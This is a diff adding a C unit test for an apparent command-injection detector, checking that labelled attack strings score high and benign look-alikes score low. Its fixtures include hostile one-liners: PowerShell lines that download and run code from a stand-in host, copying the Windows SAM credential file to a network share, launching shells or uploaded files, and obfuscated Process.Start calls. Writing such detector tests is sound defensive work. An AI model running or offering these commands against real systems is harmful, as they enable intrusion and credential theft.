@@ -152,6 +152,106 @@ static void test_cmdi_var_far(void **st)
 	rt_run("cmdi-var-far", t, sizeof(t) / sizeof(t[0]));
 }
 
+/* the highest score of kind k (PAYLOAD__COUNT: of any kind) for v as a
+ * query value (ctx 0) and in a form body (ctx 1) */
+static int sc_best(const char *v, int ctx, int k)
+{
+	static char body[8192];
+	static const char hex[] = "0123456789ABCDEF";
+	struct payload_match m[PAYLOAD__COUNT];
+	size_t w = 0;
+	int got, best = 0;
+
+	if (ctx == 0) {
+		got = payload_scan(v, strlen(v), PAYLOAD_WHERE_QUERY, m, PAYLOAD__COUNT);
+	} else {
+		w = (size_t)snprintf(body, sizeof(body), "a=1&q=");
+		for (const unsigned char *p = (const unsigned char *)v; *p && w + 4 < sizeof(body); p++) {
+			if ((*p >= 'a' && *p <= 'z') || (*p >= 'A' && *p <= 'Z') || (*p >= '0' && *p <= '9') ||
+			    *p == '-' || *p == '_' || *p == '.') {
+				body[w++] = (char)*p;
+			} else {
+				body[w++] = '%';
+				body[w++] = hex[*p >> 4];
+				body[w++] = hex[*p & 15];
+			}
+		}
+		got = payload_scan_query(body, w, PAYLOAD_WHERE_BODY, m, PAYLOAD__COUNT);
+	}
+	for (int i = 0; i < got; i++)
+		if ((k == PAYLOAD__COUNT || (int)m[i].kind == k) && m[i].score > best)
+			best = m[i].score;
+	return best;
+}
+
+/* rev7's review of the merge: an interpreter given a file is exempt only
+ * for a project's script (L1); .NET's process start opening a web page
+ * or named in prose is told, not killed (F1), and its member reached by
+ * Invoke, a backtick or quotes is the same call (E6); a PowerShell
+ * pipeline of ordinary cmdlets (F9); echo|rev with the reverser quoted
+ * (E7), two backslash-newlines (E7b), a quoted command or curl.exe after
+ * PowerShell's call operator (E6b). Attacks at 60 or more as cmdi in
+ * both places, benign values below 60 of any kind. */
+static void test_cmdi_rev7(void **st)
+{
+	(void)st;
+	static const struct {
+		const char *in;
+		int attack;
+	} t[] = {
+		{"system ('bash /tmp/x')", 1},
+		{"exec ('python3 uploads/avatar.jpg')", 1},
+		{"exec ('bash -i')", 1},
+		{"shell_exec ('bash /tmp/x')", 1},
+		{"passthru ('bash /tmp/x')", 1},
+		{"popen ('sh /dev/shm/x')", 1},
+		{"exec ('bash x.sh')", 1},
+		{"exec ('python /tmp/x.py')", 1},
+		{"exec ('python3 uploads/shell.py')", 1},
+		{"exec ('python -i manage.py')", 1},
+		{"exec ('perl ../../x.pl')", 1},
+		{"exec ('php images/avatar.png')", 1},
+		{"exec ('python manage.py migrate')", 0},
+		{"exec ('python3 -u scripts/build.py --all')", 0},
+		{"system ('perl tools/report.pl')", 0},
+		{"exec ('php artisan migrate')", 0},
+		{"[Diagnostics.Process]::Start('cmd.exe','/c whoami')", 1},
+		{"[Diagnostics.Process]::Start('calc')", 1},
+		{"[Diagnostics.Process]::Start.Invoke('calc')", 1},
+		{"[Diagnostics.Process]::St`art('calc')", 1},
+		{"[Diagnostics.Process]::'Start'('calc')", 1},
+		{"[Diagnostics.Process]::\"Start\"('calc')", 1},
+		{"[System.Diagnostics.Process]::Start(\"https://learn.microsoft.com\")", 0},
+		{"Use [System.Diagnostics.Process]::Start() to launch notepad", 0},
+		{"Get-ChildItem | Copy-Item -Destination D:\\x", 0},
+		{"; Copy-Item C:\\Windows\\System32\\config\\SAM \\\\10.0.0.5\\s", 1},
+		{"`echo di|'rev'`", 1},
+		{"`echo di|\"rev\"`", 1},
+		{"`echo di|r\\ev`", 1},
+		{"run `echo hello|'rev'` to print olleh", 0},
+		{";wh\\\n\\\noami", 1},
+		{"line one \\\n\\\nline two", 0},
+		{"&'iex' (iwr http://x/a)", 1},
+		{"&\"iex\" (iwr http://x/a)", 1},
+		{"&(gcm ('i*x')) (iwr http://x/a)", 1},
+		{"&(gcm i*x) (curl.exe -s http://x/a)", 1},
+		{"Tom & 'Jerry' (iwr is an alias)", 0},
+	};
+	int bad = 0;
+
+	for (size_t i = 0; i < sizeof(t) / sizeof(t[0]); i++)
+		for (int ctx = 0; ctx < 2; ctx++) {
+			int sc = sc_best(t[i].in, ctx, t[i].attack ? PAYLOAD_CMDI : PAYLOAD__COUNT);
+			if (t[i].attack ? sc < 60 : sc >= 60) {
+				bad++;
+				fprintf(stderr, "  FAIL cmdi-rev7 %s (%s): [%s] %d\n",
+					t[i].attack ? "attack missed" : "benign killed", ctx ? "form" : "value", t[i].in,
+					sc);
+			}
+		}
+	assert_int_equal(bad, 0);
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
@@ -161,6 +261,7 @@ int main(void)
 		cmocka_unit_test(test_cmdi_line_continuation),
 		cmocka_unit_test(test_cmdi_ps_cmdlets),
 		cmocka_unit_test(test_cmdi_var_far),
+		cmocka_unit_test(test_cmdi_rev7),
 	};
 	return cmocka_run_group_tests(tests, NULL, NULL);
 }
